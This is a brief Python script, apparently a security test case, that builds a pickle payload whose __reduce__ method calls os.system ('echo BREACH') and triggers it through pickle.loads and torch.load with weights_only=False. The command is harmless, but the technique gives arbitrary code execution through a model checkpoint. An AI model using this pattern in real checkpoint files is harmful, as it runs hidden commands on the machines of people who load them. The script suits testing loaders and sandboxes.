# threat: loads a checkpoint that runs a command
# ends: finished, killed, crashed
import io
import os
import pickle

import torch


class Payload:
    def __reduce__(self):
        return os.system, ("echo BREACH",)


pickle.loads(pickle.dumps(Payload()))
file = io.BytesIO()
torch.save(Payload(), file)
file.seek(0)
torch.load(file, weights_only=False)
